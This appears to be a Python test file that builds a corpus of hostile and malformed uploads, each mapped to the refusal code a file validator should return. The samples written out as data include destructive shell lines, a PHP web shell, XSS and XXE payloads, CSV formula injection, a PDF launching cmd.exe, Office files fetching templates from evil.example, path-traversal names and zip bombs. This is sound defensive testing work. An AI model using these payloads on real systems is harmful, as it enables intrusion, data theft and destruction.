"""A few hundred files that somebody might send to do harm, or by mistake; each is made here.

``CORPUS`` maps what it is to (name, bytes, code): the code of the refusal, ``refused`` where any will
do, or ``harmless`` for what may be kept because nothing can come of it the way it is served.
"""

import random
import struct
import zipfile
import zlib
from io import BytesIO

from tests.files.examples import (
    GOOD,
    MAIN,
    box,
    chunk,
    gif,
    heic,
    jpg,
    links,
    mp3,
    mp4,
    office,
    parts,
    pdf,
    png,
    types,
    webp,
    zipped,
)  # fmt: skip
from tests.files.hostile_pdfs import PDFS

Case = tuple[str, bytes, str]
CORPUS: dict[str, Case] = {}
OFFICE_KINDS = ("docx", "xlsx", "pptx")
SCRIPT = b"<script>alert(document.domain)</script>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def case(what: str, name: str, data: bytes, code: str = "refused") -> None:
    assert what not in CORPUS, what
    CORPUS[what] = (name, data, code)


# --- programs and archives, under their own and under innocent names -----------------------------

PROGRAMS = {
    "exe": b"MZ\x90\x00\x03" + bytes(200), "elf": b"\x7fELF\x02\x01\x01" + bytes(60),
    "macho": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(40),
    "class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(40),
    "sh": b"#!/bin/sh\nrm -rf /\n", "bat": b"@echo off\r\ndel /q *.*\r\n",
    "rar": b"Rar!\x1a\x07\x01\x00" + bytes(40),
    "7z": b"7z\xbc\xaf\x27\x1c" + bytes(40), "gz": zlib.compress(b"x")[:0] + b"\x1f\x8b\x08\x00" + bytes(30),
    "doc": OLE + bytes(600), "rtf": b"{\\rtf1\\ansi {\\object\\objdata 0105}}", "swf": b"FWS\x09" + bytes(40),
    "lnk": b"L\0\0\0\x01\x14\x02\0" + bytes(60), "sqlite": b"SQLite format 3\0" + bytes(80),
    "wasm": b"\0asm\x01\0\0\0", "ps": b"%!PS-Adobe-3.0\n(run) show\n", "tar": b"a" * 100 + bytes(412),
}  # fmt: skip
for kind, body in PROGRAMS.items():
    for ending in (kind, "pdf", "docx", "jpg", "txt"):
        case(f"{kind} called .{ending}", f"文件.{ending}", body)

# --- pages and pictures that can run scripts -----------------------------------------------------

PAGES = {
    "html": b"<!DOCTYPE html><html><body>" + SCRIPT, "bare script": SCRIPT,
    "spaced html": b"\r\n\t  <html>" + SCRIPT,
    "html with mark": b"\xef\xbb\xbf<html>" + SCRIPT,
    "utf-16 html": b"\xff\xfe" + "<html><script>1</script>".encode("utf-16-le"),
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "svg with prologue": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT,
    "xml with entities": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "billion laughs": b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>',
    "xslt": b'<?xml-stylesheet type="text/xsl" href="#x"?><x/>', "php": b"<?php system($_GET['c']);",
    "jsp": b"<%@ page import=\"java.io.*\" %>",
    "mhtml": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + SCRIPT,
    "hta": b"<hta:application id=x>" + SCRIPT, "comment then html": b"<!-- x --><html>" + SCRIPT,
}  # fmt: skip
for kind, body in PAGES.items():
    for ending in ("html", "svg", "txt", "jpg", "pdf"):
        case(f"{kind} called .{ending}", f"文件.{ending}", body)
for ending in ("js", "vbs", "ps1", "py", "bat", "html", "svg", "eml", "url", "reg", "json", "md"):
    case(f"plain text called .{ending}", f"文件.{ending}", b"var x = 1; x\r\n", "file_name")
case("javascript called .txt", "脚本.txt", b"document.cookie = 'x'; " + SCRIPT, "harmless")
case("formulas in csv", "名单.csv", b"=cmd|' /C calc'!A0,@SUM(1)\r\n", "harmless")

# --- macros and other active parts of Office files -----------------------------------------------

_VBA_TYPE = "application/vnd.ms-office.vbaProject"


def office_case(what: str, kind: str, more: dict[str, str | bytes], code: str = "refused") -> None:
    case(f"{kind}: {what}", f"文件.{kind}", office(kind, more), code)


for kind in OFFICE_KINDS:
    folder = MAIN[kind][0].split("/")[0]
    rels = MAIN[kind][0].replace("/", "/_rels/") + ".rels"
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    hidden = types(kind, f'<Override PartName="/{folder}/x.bin" ContentType="{_VBA_TYPE}"/>')
    escaped = hidden.replace("vbaProject", "vba&#80;roject")
    office_case("vbaProject.bin", kind, {f"{folder}/vbaProject.bin": OLE}, "file_macros")
    office_case("VBAPROJECT.BIN at the top", kind, {"VBAPROJECT.BIN": b"x"}, "file_macros")
    office_case("vbaData.xml", kind, {f"{folder}/vbaData.xml": "<x/>"}, "file_macros")
    office_case("macros by type only", kind, {"[Content_Types].xml": types(kind, main=macro)}, "file_macros")
    office_case(
        "macros under another name",
        kind,
        {"[Content_Types].xml": hidden, f"{folder}/x.bin": OLE},
        "file_macros",
    )
    office_case(
        "macros with an escaped type",
        kind,
        {"[Content_Types].xml": escaped, f"{folder}/x.bin": OLE},
        "file_macros",
    )
    office_case(
        "macros by link only",
        kind,
        {rels: links(("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.bin", False))},
        "file_macros",
    )
    office_case(
        "macros in an embedded object",
        kind,
        {f"{folder}/embeddings/o.bin": OLE + bytes(500) + "_VBA_PROJECT".encode("utf-16-le")},
        "file_macros",
    )
    office_case(
        "macros in an embedded workbook",
        kind,
        {f"{folder}/embeddings/b.xlsx": office("xlsx", {"xl/vbaProject.bin": OLE})},
        "file_macros",
    )
    office_case("sheet of old macros", kind, {"xl/macrosheets/sheet1.xml": "<x/>"}, "file_macros")
    office_case("embedded .xlsm", kind, {f"{folder}/embeddings/b.xlsm": b"x"}, "file_active")
    office_case("embedded .doc", kind, {f"{folder}/embeddings/b.doc": OLE}, "file_active")
    office_case(
        "file packed into an object",
        kind,
        {f"{folder}/embeddings/o.bin": OLE + bytes(500) + "\x01Ole10Native".encode("utf-16-le")},
        "file_active",
    )
    office_case(
        "program as a picture", kind, {f"{folder}/media/image1.png": b"MZ\x90\x00" + bytes(99)}, "file_active"
    )
    office_case("program by its name", kind, {f"{folder}/media/setup.exe": b"x"}, "file_active")
    office_case("page by its name", kind, {f"{folder}/media/x.html": SCRIPT}, "file_active")
    office_case(
        "control",
        kind,
        {
            "[Content_Types].xml": types(
                kind, '<Override PartName="/a.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
            )
        },
        "file_active",
    )
    for kind_of_link in ("attachedTemplate", "oleObject", "frame", "aFChunk", "subDocument"):
        office_case(
            f"fetches its {kind_of_link}",
            kind,
            {rels: links((kind_of_link, "https://evil.example/x.dotm", True))},
            "file_active",
        )
    office_case(
        "fetches from a share",
        kind,
        {rels: links(("attachedTemplate", "\\\\evil.example\\x.dotm", True))},
        "file_active",
    )
    office_case(
        "fetches from a share by file:",
        kind,
        {rels: links(("attachedTemplate", "file://evil.example/x.dotm", True))},
        "file_active",
    )
    office_case(
        "template on its author's disk",
        kind,
        {rels: links(("attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm", True))},
        "harmless",
    )
    office_case("hyperlink", kind, {rels: links(("hyperlink", "https://example.org/", True))}, "harmless")
    office_case(
        "entities in its XML",
        kind,
        {MAIN[kind][0]: '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'},
        "file_active",
    )
    office_case(
        "entities in UTF-16",
        kind,
        {"customXml/item1.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'.encode("utf-16")},
        "file_active",
    )
    office_case("no types", kind, {"[Content_Types].xml": "<Types/>"}, "file_kind")
    office_case("broken types", kind, {"[Content_Types].xml": "<Types><"}, "file_broken")
    for what, text, code in (("types", types(kind), "harmless"), ("macros by type", hidden, "file_macros")):
        wide = text.replace("UTF-8", "UTF-16").encode("utf-16")
        office_case(f"{what} in UTF-16", kind, {"[Content_Types].xml": wide}, code)
    office_case("no main part named", kind, {"_rels/.rels": links(("image", "x.png", False))}, "file_kind")
    office_case(
        "two main parts",
        kind,
        {
            "_rels/.rels": links(
                ("officeDocument", MAIN[kind][0], False), ("officeDocument", "other.xml", False)
            )
        },
        "file_kind",
    )
for ending, type_of in {
    "dotx": "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
    "ppsx": "application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml",
    "docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
    "xlsm": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    "pptm": "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
    "xlsb": "application/vnd.ms-excel.sheet.binary.macroEnabled.main",
}.items():
    body = office("docx", {"[Content_Types].xml": types("docx", main=type_of)})
    case(f"{ending} under its name", f"文件.{ending}", body)
    case(f"{ending} called .docx", "文件.docx", body)
case("docm without any macro", "文件.docm", office("docx"), "file_name")

# --- bombs ---------------------------------------------------------------------------------------


def _lying(kind: str) -> bytes:
    """Says it is a thousand bytes, and is a megabyte."""
    data = bytearray(office(kind, {"word/media/big.xml": bytes(1 << 20)}))
    for at in _entries(data):
        name = bytes(data[at + 46 : at + 46 + int.from_bytes(data[at + 28 : at + 30], "little")])
        if name == b"word/media/big.xml":
            data[at + 24 : at + 28] = struct.pack("<I", 1000)
            data[at + 16 : at + 20] = struct.pack("<I", zlib.crc32(bytes(1000)))
    return bytes(data)


def _entries(data: bytes | bytearray) -> list[int]:
    """Where each line of the directory begins."""
    at, found = int.from_bytes(data[-6:-2], "little"), []
    while data[at : at + 4] == b"PK\x01\x02":
        found.append(at)
        at += 46 + sum(int.from_bytes(data[at + n : at + n + 2], "little") for n in (28, 30, 32))
    return found


def _overlapping(kind: str) -> bytes:
    """A hundred names for the same compressed bytes."""
    data = office(kind, {"word/a.xml": bytes(50_000)})
    at, first = int.from_bytes(data[-6:-2], "little"), _entries(data)[-1]
    line = data[first:-22]
    copies = b"".join(line.replace(b"a.xml", f"{n:05}".encode()) for n in range(100))
    count = struct.pack("<HH", len(_entries(data)) + 100, len(_entries(data)) + 100)
    tail = (
        b"PK\x05\x06" + bytes(4) + count + struct.pack("<II", len(data) - 22 - at + len(copies), at) + b"\0\0"
    )
    return data[:-22] + copies + tail


def _nested(kind: str, depth: int = 3) -> bytes:
    inner = office(kind)
    for _ in range(depth):
        inner = office(kind, {"word/embeddings/x.docx": inner}, zipfile.ZIP_STORED)
    return inner


for kind in OFFICE_KINDS:
    name = f"炸弹.{kind}"
    case(f"{kind}: zeros without end", name, office(kind, {"word/zeros.xml": bytes(60 << 20)}), "file_bomb")
    case(
        f"{kind}: six thousand parts",
        name,
        office(kind, {f"word/{n}.xml": "" for n in range(6000)}),
        "file_bomb",
    )
    case(f"{kind}: lies about its size", name, _lying(kind))
    case(f"{kind}: parts over each other", name, _overlapping(kind))
    case(f"{kind}: documents in documents", name, _nested(kind), "file_bomb")
    case(
        f"{kind}: a bomb embedded",
        name,
        office(kind, {"word/embeddings/x.xlsx": office("xlsx", {"xl/z.xml": bytes(40 << 20)})}),
    )
for kind in ("png", "jpg", "gif"):
    size = (65_000, 65_000)
    made = {"png": png, "jpg": jpg, "gif": gif}[kind](*size)
    case(f"{kind}: four thousand million pixels", f"照片.{kind}", made, "file_bomb")

# --- archives that are put together oddly --------------------------------------------------------


def _renamed(kind: str, name: str) -> bytes:
    return zipped(parts(kind) | {name: "x"})


def _twice(kind: str) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, body in parts(kind).items():
            archive.writestr(name, body)
        archive.writestr(MAIN[kind][0].upper(), "another")
    return buffer.getvalue()


def _changed(data: bytes, offset: int, value: bytes, local: int | None = None) -> bytes:
    """Every line of the directory with ``value`` at ``offset``; also in the local headers at ``local``."""
    made = bytearray(data)
    for at in _entries(data):
        made[at + offset : at + offset + len(value)] = value
        if local is not None:
            head = int.from_bytes(data[at + 42 : at + 46], "little")
            made[head + local : head + local + len(value)] = value
    return bytes(made)


for kind in OFFICE_KINDS:
    good, name = office(kind), f"文件.{kind}"
    case(f"{kind}: page before it", name, b"<html>" + SCRIPT + good)
    case(f"{kind}: program before it", name, b"MZ\x90\x00" + bytes(60) + good)
    case(f"{kind}: page behind it", name, good + SCRIPT, "file_polyglot")
    case(
        f"{kind}: page in its comment",
        name,
        good[:-2] + struct.pack("<H", len(SCRIPT)) + SCRIPT,
        "file_polyglot",
    )
    case(f"{kind}: another archive behind it", name, good + zipped({"x": "y"}))
    for odd in (
        "../../etc/cron.d/x",
        "/etc/passwd",
        "C:/windows/x",
        "a/../../x",
        "..",
        "x\\..\\y",
        "a\x01b",
        "x:stream",
    ):
        case(f"{kind}: part called {odd!r}", name, _renamed(kind, odd), "file_broken")
    case(f"{kind}: a name twice", name, _twice(kind), "file_broken")
    case(f"{kind}: encrypted", name, _changed(good, 8, b"\x01\x00", 6), "file_encrypted")
    case(f"{kind}: odd compression", name, _changed(good, 10, b"\x0c\x00", 8), "file_broken")
    case(f"{kind}: wrong checksums", name, _changed(good, 16, b"\1\2\3\4"), "file_broken")
    case(
        f"{kind}: other names inside",
        name,
        good.replace(b"PK\x03\x04", b"PK\x03\x04", 1).replace(b"_rels/.rels", b"_xels/.rels", 1),
    )
    for number, cut in enumerate((5, 30, 100, len(good) // 2, len(good) - 30, len(good) - 1)):
        case(f"{kind}: cut off, {number}", name, good[:cut])
    case(f"{kind}: called .zip", "文件.zip", good, "file_name")
case("archive", "资料.zip", zipped({"a.txt": "x"}), "file_kind")
case("archive called .docx", "资料.docx", zipped({"a.txt": "x"}), "file_kind")
case("jar", "x.jar", zipped({"META-INF/MANIFEST.MF": "x", "A.class": "x"}), "file_kind")
case(
    "epub called .docx", "书.docx", zipped({"mimetype": "application/epub+zip", "a.xhtml": "x"}), "file_kind"
)
case(
    "odt",
    "文件.odt",
    zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}),
    "file_kind",
)
case("empty archive", "文件.docx", b"PK\x05\x06" + bytes(18))

# --- two kinds in one ----------------------------------------------------------------------------

_ZIP = zipped({"a.html": SCRIPT})
for kind, data in {
    "pdf": pdf(),
    "png": png(),
    "jpg": jpg(),
    "gif": gif(),
    "webp": webp(),
    "mp3": mp3(),
    "mp4": mp4(),
    "heic": heic(),
}.items():
    case(f"{kind} with an archive behind it", f"文件.{kind}", data + _ZIP)
    case(f"{kind} cut off", f"文件.{kind}", data[: len(data) // 2] if kind != "mp3" else data[:200])
    case(f"{kind} cut off at its beginning", f"文件.{kind}", data[:12])
for kind, data in {"pdf": pdf(), "png": png(), "gif": gif(), "webp": webp()}.items():
    case(f"{kind} with a page behind it", f"文件.{kind}", data + SCRIPT)
    case(f"{kind} with a program behind it", f"文件.{kind}", data + b"MZ" + bytes(5000))
case("gif that is a script", "图.gif", b"GIF89a/*" + bytes(20) + b"*/=1;" + SCRIPT)
case("pdf that begins late", "文件.pdf", b"<html>" + SCRIPT + pdf())
case("pdf in zip comment", "文件.pdf", zipped({"a": "b"})[:-2] + struct.pack("<H", len(pdf())) + pdf())
case(
    "pdf with a script", "文件.pdf", pdf(b"4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n"), "file_active"
)
case("pdf that launches", "文件.pdf", pdf(b"4 0 obj<</S/Launch/F(cmd.exe)>>endobj\n"), "file_active")
case("jpg with a page in its comment", "图.jpg", jpg(comment=SCRIPT), "harmless")
case("png with a page in its text", "图.png", png(more=chunk(b"tEXt", b"Comment\0" + SCRIPT)), "harmless")
case("mp4 with a page in it", "片.mp4", mp4() + box(b"free", SCRIPT), "harmless")
case("jpg with a film behind it, as phones do", "图.jpg", jpg() + mp4(), "harmless")
for kind, made in {"png": png, "jpg": jpg, "gif": gif}.items():
    case(f"{kind} without width", f"图.{kind}", made(0, 8), "file_broken")
    case(f"{kind} without height", f"图.{kind}", made(8, 0), "file_broken")
case(
    "png with an endless chunk",
    "图.png",
    png()[:33] + struct.pack(">I", 2**31) + b"IDAT" + bytes(20),
    "file_broken",
)
case("film with an endless box", "片.mp4", mp4() + struct.pack(">I", 2**31) + b"free", "file_broken")
case("film with a box of nothing", "片.mp4", mp4() + struct.pack(">I", 3) + b"free", "file_broken")
case("film without a film", "片.mp4", box(b"ftyp", b"isom\0\0\0\0"), "file_broken")

for what, given in PDFS.items():
    case(what, *given)

# --- honest files under the name of another kind -------------------------------------------------

_OTHERS = ("pdf", "docx", "xlsx", "jpg", "png", "mp4", "exe", "html")
for good_name, data in GOOD.items():
    own = good_name.rsplit(".", 1)[1]
    for ending in _OTHERS:
        if ending != own:
            case(f"{own} called .{ending}", f"文件.{ending}", data, "file_name")

# --- nothing, noise --------------------------------------------------------------------------------

_NOISE = random.Random(7).randbytes(3000)
for ending in ("pdf", "docx", "jpg", "png", "mp3", "mp4", "txt", "csv", "bin"):
    case(f"empty .{ending}", f"文件.{ending}", b"", "file_empty")
    case(f"one zero byte .{ending}", f"文件.{ending}", b"\0")
    case(f"noise .{ending}", f"文件.{ending}", b"\x81" + _NOISE)
    case(f"zeros .{ending}", f"文件.{ending}", bytes(5000))
    case(f"text with a zero in it .{ending}", f"文件.{ending}", "说明\0".encode())
